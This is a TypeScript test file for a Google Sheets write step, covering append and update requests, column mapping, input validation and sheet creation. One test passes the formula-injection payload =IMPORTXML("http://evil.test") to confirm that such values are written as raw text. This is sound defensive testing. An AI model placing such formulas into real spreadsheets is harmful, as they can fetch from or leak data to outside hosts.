import { expect, it } from 'vitest';
import { googleSheetsWrite } from './google-sheets-write.ts';
import { type SheetsRequest, sheetsContext, spreadsheetId, spreadsheetUrl } from './sheets.test-helpers.ts';

type Config = Parameters<typeof googleSheetsWrite.run>[0];

/** A spreadsheet with the sheet `Orders`, whose table ends in row 4. */
function answer({ method, path, body }: SheetsRequest) {
  if (method === 'GET') return { sheets: [{ properties: { title: 'Orders' } }] };
  if (path.endsWith(':batchUpdate')) return { spreadsheetId, replies: [{}] };
  const updates = { spreadsheetId, updatedRange: 'Orders!A5:C6', updatedRows: body.values.length };
  return path.endsWith(':append') ? { spreadsheetId, tableRange: 'Orders!A1:C4', updates } : updates;
}

async function write(given: Partial<Config>) {
  const scene = sheetsContext(answer);
  const config: Config = {
    spreadsheet_url: spreadsheetUrl,
    sheet_name: 'Orders',
    credential_id: '{{secret.google.x}}',
    write_mode: 'append',
    values: '[["a", 1, true, null]]',
    create_sheet_if_missing: false,
    ...given,
  };
  return { output: await googleSheetsWrite.run(config, scene.context), requests: scene.requests };
}

it('appends rows below the table', async () => {
  const { output, requests } = await write({});
  expect(requests).toEqual([
    {
      method: 'POST',
      path: "/values/'Orders':append",
      query: { valueInputOption: 'RAW', insertDataOption: 'INSERT_ROWS' },
      authorization: 'Bearer {{secret.google.x}}',
      body: { range: "'Orders'", majorDimension: 'ROWS', values: [['a', 1, true, null]] },
    },
  ]);
  expect(output).toMatchObject({
    spreadsheet_id: spreadsheetId,
    write_mode: 'append',
    requested_destination: "'Orders'",
    range_sent: "'Orders'",
    updated_range: 'Orders!A5:C6',
    rows_written: 1,
    response: { tableRange: 'Orders!A1:C4' },
  });
});

it('puts members of objects into the columns that they are mapped to', async () => {
  const given = {
    values: '[{"name": "Ann", "tags": ["x"], "other": 1}, {"total": 3}]',
    column_mapping: { name: 'B', tags: 'd', total: 'C' },
  };
  const appended = await write(given);
  expect(appended.requests[0]?.body).toMatchObject({
    range: "'Orders'!A1",
    values: [
      [null, 'Ann', null, '["x"]'],
      [null, null, 3, null],
    ],
  });
  const updated = await write({ ...given, write_mode: 'update', range: 'A7:D' });
  expect(updated.requests).toMatchObject([
    {
      method: 'PUT',
      path: "/values/'Orders'!B7",
      query: { valueInputOption: 'RAW' },
      body: {
        values: [
          ['Ann', null, '["x"]'],
          [null, 3, null],
        ],
      },
    },
  ]);
});

it('writes from the first cell of a range on, or of the sheet', async () => {
  const { requests, output } = await write({ write_mode: 'update', range: 'B2:C9' });
  expect(requests[0]?.path).toBe("/values/'Orders'!B2:C9");
  expect(output).toMatchObject({ range_sent: "'Orders'!B2:C9", rows_written: 1 });
  expect((await write({ write_mode: 'update' })).requests[0]?.path).toBe("/values/'Orders'!A1");
});

it.each(['', ' ', '[]'])('nothing to write (`%s`) asks nobody', async (values) => {
  const { output, requests } = await write({ values, credential_id: null });
  expect(requests).toEqual([]);
  expect(output).toMatchObject({ rows_written: 0, response: null, updated_range: null });
});

it.each([
  ['a list of cells', '["a", 2]', [['a', 2]]],
  ['an object', '{"a": "x"}', [['x']]],
])('%s is one row', async (_what, values, rows) => {
  const { requests } = await write({ values, column_mapping: { a: 'A' } });
  expect(requests[0]?.body.values).toEqual(rows);
});

it('text that begins like a formula stays text', async () => {
  const { requests } = await write({ values: '[["=IMPORTXML(\\"http://evil.test\\")"]]' });
  expect(requests[0]?.query.valueInputOption).toBe('RAW');
});

it('adds the sheet that is missing, and leaves one that is there', async () => {
  const missing = await write({ create_sheet_if_missing: true, sheet_name: 'New' });
  expect(missing.requests.map(({ method, path }) => `${method} ${path}`)).toEqual([
    'GET ',
    'POST :batchUpdate',
    "POST /values/'New':append",
  ]);
  expect(missing.requests[1]?.body).toEqual({ requests: [{ addSheet: { properties: { title: 'New' } } }] });
  const there = await write({ create_sheet_if_missing: true, sheet_name: 'orders' });
  expect(there.requests).toHaveLength(2);
});

it.each([
  ['text', 'Ann "the boss"', 'they are no JSON'],
  ['a broken quote', '[["a"b"]]', '`| tojson`'],
  ['two kinds of rows', '[["a"], {"a": 1}]', 'make every row the same kind'],
  ['objects without a mapping', '[{"a": 1}]', '`column_mapping` is empty'],
])('%s in `values` is refused before anything is sent', async (_what, values, reason) => {
  await expect(write({ values })).rejects.toThrow(reason);
});

it.each([
  [{ a: '7' }, 'which is no column'],
  [{ a: 'B', b: 'b' }, 'two members'],
])('the mapping %j is refused', async (column_mapping, reason) => {
  await expect(write({ values: '[{"a": 1}]', column_mapping })).rejects.toThrow(reason);
});

it('an update is repeated when its worker was lost, an append is not', () => {
  const { onWorkerLost } = googleSheetsWrite;
  if (typeof onWorkerLost !== 'function') throw new Error('the rule is no function');
  expect(onWorkerLost({ write_mode: 'update' })).toBe('repeat');
  expect(onWorkerLost({ write_mode: 'append' })).toBe('guard');
  expect(onWorkerLost({})).toBe('guard');
});
